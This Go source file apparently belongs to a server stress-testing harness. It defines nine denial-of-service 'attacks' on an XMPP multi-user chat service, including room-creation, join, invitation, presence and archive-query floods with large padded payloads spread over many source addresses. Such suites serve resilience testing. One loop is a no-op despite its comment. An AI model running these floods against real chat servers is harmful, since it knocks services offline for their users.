package main

import (
	"fmt"
	"strconv"
	"strings"
	"sync/atomic"
	"time"
)

const (
	nsMUC      = "http://jabber.org/protocol/muc"
	nsMUCOwner = "http://jabber.org/protocol/muc#owner"
)

// join is a MUC join presence (history off unless asked for).
func join(room, nick string) string {
	return "<presence to='" + room + "/" + nick + "'><x xmlns='" + nsMUC + "'><history maxstanzas='0'/></x></presence>"
}

// configure submits an owner's configuration form making a room
// persistent (or just instant when persistent is false).
func configure(room string, persistent bool) string {
	if !persistent {
		return "<iq type='set' id='cfg' to='" + room + "'><query xmlns='" + nsMUCOwner + "'><x xmlns='jabber:x:data' type='submit'/></query></iq>"
	}
	return "<iq type='set' id='cfg' to='" + room + "'><query xmlns='" + nsMUCOwner + "'><x xmlns='jabber:x:data' type='submit'>" +
		"<field var='FORM_TYPE'><value>http://jabber.org/protocol/muc#roomconfig</value></field>" +
		"<field var='muc#roomconfig_persistentroom'><value>1</value></field></x></query></iq>"
}

// mucAttacks go after the MUC service at conference.<domain>.
func mucAttacks() []attack {
	return []attack{
		{"muc-room-create-flood", "200 sessions over 200 addresses creating and configuring persistent rooms under ever new names", func(e *env) (string, error) {
			var rooms atomic.Int64
			note, err := looped(e, 200, 200, func(s *session, k int64) error {
				room := "flood" + strconv.FormatInt(k, 10) + "@" + e.muc
				rooms.Add(1)
				return s.send(join(room, "o") + configure(room, true) + "<presence type='unavailable' to='" + room + "/o'/>")
			})
			return fmt.Sprintf("%d rooms asked for, ", rooms.Load()) + note, err
		}},
		{"muc-join-flood", "2,000 sessions over 250 addresses joining one room (unlimited occupants by default)", func(e *env) (string, error) {
			room := "joinflood@" + e.muc
			var joined atomic.Int64
			e.parallel(32, func(w int) {
				for k := 0; !e.done(); k++ {
					i := w + 32*k
					if i >= 2000 {
						e.hold()
						return
					}
					s, err := e.login(ip(i%250), "jf"+strconv.Itoa(i), "j", false)
					if err != nil {
						continue
					}
					s.drain()
					if s.send(join(room, "n"+strconv.Itoa(i))) == nil {
						joined.Add(1)
					}
				}
			})
			return fmt.Sprintf("%d joined, ", joined.Load()) + e.counts(), nil
		}},
		{"muc-nonreading-occupants", "100 non-reading occupants in a room while 20 senders post 10 KB groupchat messages at line rate", func(e *env) (string, error) {
			room := "nonread@" + e.muc
			lurkers := e.sessions(100, 100, func(i int) string { return "lurk" + strconv.Itoa(i) }, func(int) string { return "l" }, true, false)
			for i, s := range lurkers {
				_ = s.send(join(room, "lurk"+strconv.Itoa(i)))
			}
			body := strings.Repeat("g", 10<<10)
			var k atomic.Int64
			e.parallel(20, func(i int) {
				for !e.done() {
					s, err := e.login(ip(200+i), "talk"+strconv.Itoa(i), "t", false)
					if err != nil {
						time.Sleep(50 * time.Millisecond)
						continue
					}
					s.drain()
					if s.send(join(room, "talk"+strconv.Itoa(i))) != nil {
						continue
					}
					for !e.done() {
						k.Add(1)
						if s.send(strings.Repeat("<message type='groupchat' to='"+room+"'><body>"+body+"</body></message>", 5)) != nil {
							break
						}
					}
				}
			})
			return fmt.Sprintf("%d lurkers, ", len(lurkers)) + e.counts(), nil
		}},
		{"muc-history-growth", "50 sessions each creating persistent rooms and filling each room's history with 50 KB messages", func(e *env) (string, error) {
			body := strings.Repeat("h", 50<<10)
			var rooms atomic.Int64
			note, err := looped(e, 50, 50, func(s *session, k int64) error {
				room := "hist" + strconv.FormatInt(k, 10) + "@" + e.muc
				rooms.Add(1)
				return s.send(join(room, "o") + configure(room, true) + strings.Repeat("<message type='groupchat' to='"+room+"'><body>"+body+"</body></message>", 25) + "<presence type='unavailable' to='" + room + "/o'/>")
			})
			return fmt.Sprintf("%d rooms, ", rooms.Load()) + note, err
		}},
		{"muc-nick-register-flood", "100 accounts registering nicknames in one room and in many rooms", func(e *env) (string, error) {
			for i := range 20 {
				// Rooms that exist, made by the first sessions.
				_ = i
			}
			return looped(e, 100, 100, func(s *session, k int64) error {
				room := "reg" + strconv.FormatInt(k%20, 10) + "@" + e.muc
				n := strconv.FormatInt(k, 10)
				return s.send(join(room, "r"+n) + configure(room, true) + "<iq type='set' id='g" + n + "' to='" + room + "'><query xmlns='jabber:iq:register'><x xmlns='jabber:x:data' type='submit'><field var='FORM_TYPE'><value>http://jabber.org/protocol/muc#register</value></field><field var='muc#register_roomnick'><value>" + strings.Repeat("n", 500) + n + "</value></field></x></query></iq>")
			})
		}},
		{"muc-invite-flood", "100 occupants sending mediated invitations with long reasons to many JIDs and declines", func(e *env) (string, error) {
			room := "invite@" + e.muc
			reason := strings.Repeat("r", 2000)
			return looped(e, 100, 100, func(s *session, k int64) error {
				if k < 200 {
					_ = s.send(join(room, "i"+strconv.FormatInt(k, 10)))
				}
				to := "off" + strconv.FormatInt(k%1000, 10) + "@" + e.domain
				return s.send("<message to='" + room + "'><x xmlns='http://jabber.org/protocol/muc#user'><invite to='" + to + "'><reason>" + reason + "</reason></invite><invite to='inv" + strconv.FormatInt(k, 10) + "@" + e.domain + "'/></x></message>" +
					"<message to='" + room + "'><x xmlns='http://jabber.org/protocol/muc#user'><decline to='" + to + "'><reason>" + reason + "</reason></decline></x></message>")
			})
		}},
		{"muc-disco-many-rooms", "100 non-reading sessions asking disco#items of the MUC service (after the room floods) and disco#info of rooms", func(e *env) (string, error) {
			return nonReading(e, 100, 100, func(k int64) string {
				return "<iq type='get' id='i' to='" + e.muc + "'><query xmlns='http://jabber.org/protocol/disco#items'/></iq>" +
					"<iq type='get' id='r' to='flood" + strconv.FormatInt(k%1000, 10) + "@" + e.muc + "'><query xmlns='http://jabber.org/protocol/disco#info'/></iq>"
			})
		}},
		{"muc-presence-churn", "200 occupants of one room changing presence with 2 KB statuses as fast as possible", func(e *env) (string, error) {
			room := "churn@" + e.muc
			status := strings.Repeat("s", 2000)
			return looped(e, 200, 200, func(s *session, k int64) error {
				return s.send("<presence to='" + room + "/c" + strconv.Itoa(int(k%200)) + "'><x xmlns='" + nsMUC + "'/><status>" + status + strconv.FormatInt(k, 10) + "</status></presence>")
			})
		}},
		{"muc-mam-query-flood", "50 non-reading occupants querying a big room's archive at line rate", func(e *env) (string, error) {
			room := "nonread@" + e.muc
			return nonReadingAs(e, 50, 50, func(i int) string { return "mq" + strconv.Itoa(i) }, func(k int64) string {
				return join(room, "mq"+strconv.FormatInt(k, 10)) + "<iq type='set' id='m" + strconv.FormatInt(k, 10) + "' to='" + room + "'><query xmlns='urn:xmpp:mam:2'/></iq>"
			})
		}},
	}
}
